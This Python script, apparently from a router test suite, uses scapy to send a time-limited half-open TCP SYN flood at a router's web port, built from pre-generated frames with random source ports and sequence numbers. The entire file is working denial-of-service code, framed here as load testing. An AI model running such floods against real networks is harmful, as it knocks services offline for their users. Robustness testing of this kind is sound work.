#!/usr/bin/python3
"""A half-open SYN flood at the router's page, with scapy, from the LAN device it runs on
(WebLabTests): SYNs to port 80 from the device's own address (source validation drops any other),
random source ports and sequence numbers, never completing a handshake. Stops by itself.
  web_synflood.py IFACE ROUTER_MAC SRC DST SECONDS     SRC and DST both IPv4 or both IPv6
Prints "syns N" (frames handed to the interface).
"""
import random
import sys
import time

from scapy.all import Ether, IP, IPv6, TCP, conf, get_if_hwaddr, sendp

conf.verb = 0


def main():
    iface, router_mac, src, dst, seconds = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4], float(sys.argv[5])
    mac = get_if_hwaddr(iface)
    net = IPv6(src=src, dst=dst) if ":" in dst else IP(src=src, dst=dst)
    batch = [Ether(src=mac, dst=router_mac) / net / TCP(sport=random.randint(1024, 65535), dport=80, flags="S",
                                                        seq=random.randint(0, 2**32 - 1), window=64240)
             for _ in range(2000)]
    raw = [bytes(p) for p in batch]  # built once: the loop only sends
    sock = conf.L2socket(iface=iface)
    n = 0
    t0 = time.time()
    try:
        while time.time() - t0 < seconds:
            for frame in raw:
                sock.send(frame)
            n += len(raw)
    finally:
        sock.close()
    print("syns %d in %.1f s" % (n, time.time() - t0), flush=True)


if __name__ == "__main__":
    main()
